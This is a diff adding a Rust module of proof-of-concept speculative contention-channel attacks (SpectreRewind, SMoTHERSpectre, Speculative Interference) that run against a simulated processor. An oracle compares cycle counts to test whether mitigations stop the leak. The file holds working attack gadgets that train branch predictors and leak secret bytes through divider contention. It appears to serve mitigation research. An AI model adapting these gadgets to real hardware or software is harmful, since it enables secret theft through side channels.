@@ -1,0 +1,302 @@
+//! Speculative Contention Channel (SCC) PoCs: SMoTHERSpectre, Speculative
+//! Interference, SpectreRewind.
+//!
+//! These attacks transmit without touching the cache: a transient,
+//! secret-dependent computation occupies a *shared, variable-latency,
+//! non-pipelined* unit (the divider), and the attacker observes the delay it
+//! inflicts on its own committed instructions. The oracle runs each PoC
+//! twice — secret byte `0x00` vs `0xFF` — and declares a leak when the
+//! deterministic cycle counts differ.
+
+use crate::layout::{self, COND_SLOT, PTR_SLOT, SIZE_ADDR};
+use crate::oracle::{detection_fired, AttackOutcome, GadgetFlavor};
+use crate::{AttackClass, TransientAttack};
+use sas_isa::{Cond, Operand, Program, ProgramBuilder, Reg, VirtAddr};
+use sas_pipeline::RunExit;
+use specasan::{build_system, Mitigation, SimConfig};
+
+/// Emits the contention gadget: load the secret byte, scale it into the
+/// high bits, and push it through a chain of dependent divides whose
+/// latency (and divider occupancy) depends on the operand magnitude.
+fn emit_contention_gadget(asm: &mut ProgramBuilder) {
+    asm.ldrb_idx(Reg::X5, Reg::X2, Reg::X0); // ACCESS
+    asm.lsl(Reg::X6, Reg::X5, Operand::imm(56)); // amplify magnitude
+    // A dependent divide chain long enough to still occupy the divider when
+    // the misprediction resolves and the attacker's committed instructions
+    // re-enter the machine.
+    for _ in 0..6 {
+        asm.udiv(Reg::X6, Reg::X6, Operand::imm(1));
+    }
+}
+
+fn set_gadget_inputs(asm: &mut ProgramBuilder, flavor: GadgetFlavor) {
+    let ptr = match flavor {
+        GadgetFlavor::TagViolating => layout::secret_ptr_violating(),
+        GadgetFlavor::TagMatching => layout::secret_ptr_valid(),
+    };
+    asm.mov_imm64(Reg::X2, ptr.raw());
+    asm.movz(Reg::X0, 0, 0);
+}
+
+/// Runs a timing PoC twice (low/high secret) and compares cycle counts.
+fn timing_outcome(
+    build: impl Fn() -> Program,
+    cfg: &SimConfig,
+    m: Mitigation,
+    extra_setup: impl Fn(&mut sas_pipeline::System),
+) -> AttackOutcome {
+    let mut cycles = [0u64; 2];
+    let mut detected = false;
+    let mut exit = RunExit::Halted;
+    for (i, secret) in [0x00u64, 0xFF].into_iter().enumerate() {
+        let mut sys = build_system(cfg, build(), m);
+        layout::install_victim(&mut sys);
+        sys.mem_mut().write_arch(VirtAddr::new(layout::SECRET_ADDR), 1, secret);
+        extra_setup(&mut sys);
+        let r = sys.run(3_000_000);
+        cycles[i] = r.cycles;
+        detected |= detection_fired(&sys);
+        exit = r.exit;
+    }
+    AttackOutcome { leaked: cycles[0] != cycles[1], exit, detected, cycles: cycles[1] }
+}
+
+// ---------------------------------------------------------------------------
+// SpectreRewind
+// ---------------------------------------------------------------------------
+
+/// SpectreRewind: a transient, secret-dependent divide chain occupies the
+/// non-pipelined divider; the attacker's own committed divide — issued
+/// while the transient window is open — completes later by an amount that
+/// encodes the secret.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct SpectreRewind;
+
+/// Builds the Rewind program: a v1-style mispredicted bounds check guarding
+/// the contention gadget, followed by the attacker's timed divide.
+pub fn rewind_program(cfg: &SimConfig, flavor: GadgetFlavor) -> Program {
+    let pht = cfg.core.pht_entries;
+    let mut asm = ProgramBuilder::new();
+    asm.mov_imm64(Reg::X9, SIZE_ADDR);
+    asm.mov_imm64(Reg::X11, layout::secret_ptr_valid().raw());
+    asm.ldrb(Reg::X12, Reg::X11, 0); // warm the secret line
+
+    // Train the bounds check (in bounds, gadget reads array1 via its
+    // correctly-keyed pointer).
+    asm.mov_imm64(
+        Reg::X2,
+        sas_isa::VirtAddr::new(layout::ARRAY1)
+            .with_key(sas_isa::TagNibble::new(layout::ARRAY1_KEY))
+            .raw(),
+    );
+    asm.movz(Reg::X10, 12, 0);
+    asm.movz(Reg::X0, 0, 0);
+    let top = asm.here();
+    asm.ldr(Reg::X1, Reg::X9, 0);
+    asm.cmp(Reg::X0, Operand::reg(Reg::X1));
+    let train_branch_pc = asm.here();
+    let skip = asm.new_label();
+    asm.b_cond(Cond::Hs, skip);
+    emit_contention_gadget(&mut asm);
+    asm.bind(skip);
+    asm.sub(Reg::X10, Reg::X10, Operand::imm(1));
+    asm.cbnz_idx(Reg::X10, top);
+
+    asm.flush(Reg::X9, 0);
+    // Rewind's OOB access goes through array1's pointer with an
+    // out-of-bounds index (tag-violating by construction).
+    let _ = flavor;
+    while (asm.here() + 3) % pht != train_branch_pc % pht {
+        asm.nop();
+    }
+    asm.mov_imm64(Reg::X0, layout::SECRET_ADDR - layout::ARRAY1);
+    asm.ldr(Reg::X1, Reg::X9, 0); // slow bounds
+    asm.cmp(Reg::X0, Operand::reg(Reg::X1));
+    let end = asm.new_label();
+    asm.b_cond(Cond::Hs, end); // mispredicted into the gadget
+    emit_contention_gadget(&mut asm);
+    asm.bind(end);
+    // The attacker's timed (committed) divide contends with the transient
+    // chain for the single divider.
+    asm.mov_imm64(Reg::X13, u64::MAX);
+    asm.udiv(Reg::X13, Reg::X13, Operand::imm(1));
+    asm.halt();
+    asm.build().expect("rewind assembles")
+}
+
+impl TransientAttack for SpectreRewind {
+    fn name(&self) -> &'static str {
+        "SpectreRewind"
+    }
+
+    fn class(&self) -> AttackClass {
+        AttackClass::Scc
+    }
+
+    fn run(&self, cfg: &SimConfig, m: Mitigation, flavor: GadgetFlavor) -> AttackOutcome {
+        timing_outcome(|| rewind_program(cfg, flavor), cfg, m, |_| {})
+    }
+}
+
+// ---------------------------------------------------------------------------
+// SMoTHERSpectre
+// ---------------------------------------------------------------------------
+
+/// SMoTHERSpectre: BTB-redirected transient execution creates
+/// secret-dependent *port/unit pressure* instead of a cache footprint; the
+/// attacker times its own instruction stream.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct SmotherSpectre;
+
+/// Builds the SMoTHER program: v2-style BTB poisoning toward a contention
+/// gadget, then a timed committed divide.
+pub fn smother_program(cfg: &SimConfig, flavor: GadgetFlavor) -> Program {
+    let btb = cfg.core.btb_entries;
+    let mut asm = ProgramBuilder::new();
+    // 0..: contention gadget + ret (no BTI).
+    emit_contention_gadget(&mut asm);
+    asm.ret();
+    let benign_fn = asm.here();
+    asm.bti(sas_isa::BtiKind::Call);
+    asm.ret();
+
+    let entry = asm.here();
+    asm.mov_imm64(Reg::X11, layout::secret_ptr_valid().raw());
+    asm.ldrb(Reg::X12, Reg::X11, 0); // warm
+    asm.mov_imm64(Reg::X2, layout::BENIGN);
+    asm.movz(Reg::X0, 0, 0);
+    asm.movz(Reg::X7, 0, 0);
+    asm.mov_imm64(Reg::X13, PTR_SLOT);
+    asm.movz(Reg::X10, 6, 0);
+    let top = asm.here();
+    let train_call_pc = asm.here();
+    asm.blr(Reg::X7);
+    asm.sub(Reg::X10, Reg::X10, Operand::imm(1));
+    asm.cbnz_idx(Reg::X10, top);
+
+    asm.flush(Reg::X13, 0);
+    set_gadget_inputs(&mut asm, flavor);
+    while (asm.here() + 1) % btb != train_call_pc % btb {
+        asm.nop();
+    }
+    asm.ldr(Reg::X7, Reg::X13, 0); // slow: benign_fn
+    asm.blr(Reg::X7); // predicted: contention gadget
+    // Timed committed work right after the victim call.
+    asm.mov_imm64(Reg::X14, u64::MAX);
+    asm.udiv(Reg::X14, Reg::X14, Operand::imm(1));
+    asm.halt();
+    asm.entry(entry);
+    let _ = benign_fn;
+    asm.build().expect("smother assembles")
+}
+
+impl TransientAttack for SmotherSpectre {
+    fn name(&self) -> &'static str {
+        "SMoTHERSpectre"
+    }
+
+    fn class(&self) -> AttackClass {
+        AttackClass::Scc
+    }
+
+    fn has_matching_flavor(&self) -> bool {
+        true
+    }
+
+    fn run(&self, cfg: &SimConfig, m: Mitigation, flavor: GadgetFlavor) -> AttackOutcome {
+        let mut cfg = *cfg;
+        cfg.core.btb_history_bits = 0;
+        timing_outcome(
+            || smother_program(&cfg, flavor),
+            &cfg,
+            m,
+            |sys| sys.mem_mut().write_arch(VirtAddr::new(PTR_SLOT), 8, 4),
+        )
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Speculative Interference
+// ---------------------------------------------------------------------------
+
+/// Speculative Interference: the transient, secret-dependent occupancy of
+/// the divider shifts the *issue timing of the attacker's memory
+/// instructions*, which in turn perturbs the order/latency of its misses —
+/// a channel that survives "invisible speculation" defenses because no
+/// cache state dependent on the secret is ever installed.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct SpeculativeInterference;
+
+/// Builds the interference program.
+pub fn interference_program(cfg: &SimConfig, flavor: GadgetFlavor) -> Program {
+    let pht = cfg.core.pht_entries;
+    let mut asm = ProgramBuilder::new();
+    asm.mov_imm64(Reg::X9, COND_SLOT);
+    asm.mov_imm64(Reg::X11, layout::secret_ptr_valid().raw());
+    asm.ldrb(Reg::X12, Reg::X11, 0); // warm
+
+    // Train an always-taken branch; the attack run flips it.
+    asm.mov_imm64(Reg::X2, layout::BENIGN);
+    asm.movz(Reg::X10, 8, 0);
+    asm.movz(Reg::X0, 0, 0);
+    let top = asm.here();
+    asm.ldr(Reg::X1, Reg::X9, 0);
+    asm.cmp(Reg::X1, Operand::imm(0));
+    let train_branch_pc = asm.here();
+    let gadget_path = asm.new_label();
+    let join = asm.new_label();
+    asm.b_cond(Cond::Eq, gadget_path); // COND = 0 during training: taken
+    asm.b(join);
+    asm.bind(gadget_path);
+    emit_contention_gadget(&mut asm); // benign data during training
+    asm.bind(join);
+    asm.sub(Reg::X10, Reg::X10, Operand::imm(1));
+    asm.cbnz_idx(Reg::X10, top);
+
+    // Flip the condition for the attack run, then widen the window.
+    asm.movz(Reg::X17, 1, 0);
+    asm.str(Reg::X17, Reg::X9, 0); // COND = 1: the branch now goes the other way
+    asm.flush(Reg::X9, 0);
+    while (asm.here() + 4) % pht != train_branch_pc % pht {
+        asm.nop();
+    }
+    set_gadget_inputs(&mut asm, flavor);
+    asm.ldr(Reg::X1, Reg::X9, 0); // slow condition (now 1)
+    asm.cmp(Reg::X1, Operand::imm(0));
+    let gadget2 = asm.new_label();
+    let join2 = asm.new_label();
+    asm.b_cond(Cond::Eq, gadget2); // predicted taken, actually not
+    asm.b(join2);
+    asm.bind(gadget2);
+    emit_contention_gadget(&mut asm);
+    asm.bind(join2);
+    // The attacker's memory instruction whose issue the contention shifts:
+    // its address depends (vacuously) on the contended divide, so the
+    // divider delay propagates into the miss timing.
+    asm.mov_imm64(Reg::X14, u64::MAX);
+    asm.udiv(Reg::X14, Reg::X14, Operand::imm(1));
+    asm.mov_imm64(Reg::X15, 0x2_0000);
+    asm.and(Reg::X18, Reg::X14, Operand::imm(0)); // 0, but ordered after the div
+    asm.add(Reg::X15, Reg::X15, Operand::reg(Reg::X18));
+    asm.ldr(Reg::X16, Reg::X15, 0); // a timed miss
+    asm.halt();
+    asm.build().expect("interference assembles")
+}
+
+impl TransientAttack for SpeculativeInterference {
+    fn name(&self) -> &'static str {
+        "Spec. Interference"
+    }
+
+    fn class(&self) -> AttackClass {
+        AttackClass::Scc
+    }
+
+    fn run(&self, cfg: &SimConfig, m: Mitigation, flavor: GadgetFlavor) -> AttackOutcome {
+        timing_outcome(|| interference_program(cfg, flavor), cfg, m, |sys| {
+            // COND = 0 during training; the program itself flips it to 1
+            // before the attack pass.
+            sys.mem_mut().write_arch(VirtAddr::new(COND_SLOT), 8, 0);
+        })
+    }
+}
